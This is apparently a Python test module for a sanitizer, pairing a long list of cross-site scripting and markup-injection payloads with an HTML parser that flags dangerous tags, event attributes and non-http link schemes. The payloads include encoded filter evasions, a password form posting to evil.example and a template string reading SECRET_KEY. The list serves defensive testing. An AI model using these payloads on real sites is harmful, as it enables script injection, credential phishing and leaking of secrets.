"""Texts that try to run something, and what finds in HTML anything that could."""

import re
from html.parser import HTMLParser

HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0'>Your session has ended</div>",
    "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>x</a>",
    '" onmouseover="alert(1)',
    "' onfocus=alert(1) autofocus='",
    "` onclick=alert(1) `",
    '"><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0c>",
    "\u202e<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](blob:https://evil.example/1)",
    "[x](feed:javascript:alert(1))",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://a.example/" onload="alert(1))',
    '![x](data:image/svg+xml;base64,PHN2Zz4= "<script>alert(1)</script>")',
    "```\"><script>alert(1)</script>\nx\n```",
    "```python onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "# <script>alert(1)</script>\" onclick=\"alert(1)",
    '- [x] "><img src=x onerror=alert(1)>',
    "|<script>|\" style=\"x|\n|:-|-:|\n|<svg onload=alert(1)>|`</td><script>`|",
    "a[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
    "a^[<img src=x onerror=alert(1)>]",
    "https://a.example/\"onmouseover=alert(1)/<script>",
    "javascript:alert(1)",
    "https://a.example/'onclick='alert(1)",
    "{{ settings.SECRET_KEY }}{% debug %}",
)  # fmt: skip

FORBIDDEN = """
    script style iframe frame object embed applet form button textarea select svg math base meta link img video audio
    source template noscript title html head body
"""
SCHEMES = {"http", "https", "mailto"}


class _Dangers(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN.split():
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "action"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src") and not _is_safe(value or ""):
                self.found.append(f"{tag} {name}={value}")

    def handle_comment(self, data):
        self.found.append("<!--")

    def handle_decl(self, decl):
        self.found.append("<!")

    def handle_pi(self, data):
        self.found.append("<?")

    def unknown_decl(self, data):
        self.found.append("<![")


def _is_safe(address):
    # Browsers drop these characters from an address before they look for its scheme; dropping more hides nothing.
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", re.sub(r"[\x00-\x20\x7f]", "", address))
    return scheme is None or scheme[1].lower() in SCHEMES


def dangers_in(html):
    """Return all in a piece of HTML that could run, load, restyle or send something, as a browser reads it."""
    parser = _Dangers()
    parser.feed(html)
    parser.close()
    return parser.found
